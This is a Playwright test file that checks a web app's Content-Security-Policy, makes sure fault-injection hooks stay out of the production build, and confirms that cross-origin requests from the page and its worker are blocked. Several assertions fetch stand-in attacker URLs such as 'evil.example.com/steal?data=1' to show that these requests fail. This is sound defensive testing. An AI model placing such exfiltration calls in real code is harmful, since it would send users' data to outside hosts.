import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, type Page, test } from '@playwright/test';
import { contentSecurityPolicy, HUB_CONNECT_SOURCES } from '../../src/site/csp';
import type { HookPoint } from '../../src/testing/hooks';
import { collectErrors, openApp } from './helpers';
import { serveStatic } from './static-server';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
/** The two builds Playwright's webServer made: production, and the e2e build with the fault hooks. */
const DIST = path.join(ROOT, 'dist');
const DIST_E2E = path.join(ROOT, 'dist-e2e');

/** Names only the fault hooks' code holds (src/testing/hooks.ts, worker-api.ts, the page's handle). */
const HOOK_MARKERS: (HookPoint | string)[] = ['checkpoint:after-put', 'import:inside-chunk', 'lose-device', 'testArm', '__webtuneTest'];

function builtScripts(dir: string): string {
  return readdirSync(path.join(dir, 'assets'))
    .filter((f) => f.endsWith('.js'))
    .map((f) => readFileSync(path.join(dir, 'assets', f), 'utf8'))
    .join('\n');
}

/** What a fetch from the page's own code gives: 'ok <status>' or the error message. */
function fetchFromPage(page: Page, url: string): Promise<string> {
  return page.evaluate(
    (u) =>
      fetch(u).then(
        (r) => `ok ${r.status}`,
        (e: Error) => `failed: ${e.message}`,
      ),
    url,
  );
}

test('the production build sends its Content-Security-Policy, has no fault hooks, and blocks requests to other origins', async ({
  page,
  context,
}) => {
  test.setTimeout(5 * 60_000);
  const html = readFileSync(path.join(DIST, 'index.html'), 'utf8');
  const policy = contentSecurityPolicy(HUB_CONNECT_SOURCES);
  expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${policy.replaceAll("'", '&#39;')}" />`);
  expect(policy).toContain(
    "script-src 'self'; worker-src 'self' blob:; connect-src 'self' https://huggingface.co https://*.huggingface.co https://*.hf.co;",
  );
  // The hooks are compiled into the e2e build only.
  const production = builtScripts(DIST);
  const e2e = builtScripts(DIST_E2E);
  for (const marker of HOOK_MARKERS) {
    expect(production.includes(marker), `production has ${marker}`).toBe(false);
    expect(e2e.includes(marker), `e2e build has ${marker}`).toBe(true);
  }
  expect(readFileSync(path.join(DIST_E2E, 'index.html'), 'utf8')).toContain('https://data.example.org');
  expect(html).not.toContain('data.example.org');

  const site = await serveStatic(DIST, '/webtune/');
  const asked: string[] = [];
  for (const host of ['https://evil.example.com', 'https://huggingface.co', 'https://cas-bridge.xethub.hf.co']) {
    await context.route(`${host}/**`, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ status: 200, body: 'ok', headers: { 'access-control-allow-origin': '*' } });
    });
  }
  try {
    const errors = collectErrors(page);
    await page.addInitScript(() => {
      (window as { violations?: string[] }).violations = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        (window as { violations?: string[] }).violations!.push(`${e.effectiveDirective} ${e.blockedURI}`),
      );
    });
    await page.goto(site.url);
    await expect(page.locator('body')).toHaveAttribute('data-ready', 'true');
    await expect(page.locator('body')).toHaveAttribute('data-webgpu', 'ready');
    // Booting the page (its worker from a blob: URL, the service worker, styles set through the CSSOM) breaks no rule.
    expect(await page.evaluate(() => (window as { violations?: string[] }).violations)).toEqual([]);
    expect(errors).toEqual([]);
    expect(await page.evaluate(() => (window as { __webtuneTest?: unknown }).__webtuneTest)).toBeUndefined();

    expect(await fetchFromPage(page, 'https://evil.example.com/steal?data=1')).toBe('failed: Failed to fetch');
    expect(await fetchFromPage(page, 'https://huggingface.co/api/models/x/tree/main')).toBe('ok 200');
    expect(await fetchFromPage(page, 'https://cas-bridge.xethub.hf.co/xet-bridge-us/abc')).toBe('ok 200');
    expect(asked).toEqual(['https://huggingface.co/api/models/x/tree/main', 'https://cas-bridge.xethub.hf.co/xet-bridge-us/abc']);
    expect(await page.evaluate(() => (window as { violations?: string[] }).violations)).toEqual([
      'connect-src https://evil.example.com/steal?data=1',
    ]);
    // A dataset URL on another host is refused before any request, with the reason.
    await page.getByTestId('step-data').click();
    await page.getByTestId('dataset-source').fill('https://evil.example.com/data.jsonl');
    await page.getByTestId('dataset-source-train').click();
    await expect(page.getByTestId('data-error')).toContainText(
      'evil.example.com is not a host this site may connect to: its Content-Security-Policy allows only this site and ' +
        'huggingface.co, *.huggingface.co, *.hf.co. Put the dataset on the Hugging Face Hub or beside the site',
    );
    expect(asked).toHaveLength(2);
  } finally {
    await site.close();
  }
});

test("the engine's worker is held to the page's policy too", async ({ page, context }) => {
  const asked: string[] = [];
  for (const host of ['https://evil.example.com', 'https://cdn-lfs.huggingface.co']) {
    await context.route(`${host}/**`, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ status: 200, body: 'ok', headers: { 'access-control-allow-origin': '*' } });
    });
  }
  await openApp(page);
  const fromWorker = (url: string) =>
    page.evaluate(
      (u) =>
        (window as unknown as { __webtuneTest: { engine: { testFetch(u: string): Promise<string> } } }).__webtuneTest.engine.testFetch(u),
      url,
    );
  expect(await fromWorker('https://evil.example.com/steal')).toBe('failed: Failed to fetch');
  expect(await fromWorker('https://cdn-lfs.huggingface.co/repos/ab/cd')).toBe('ok 200');
  expect(asked).toEqual(['https://cdn-lfs.huggingface.co/repos/ab/cd']);
});
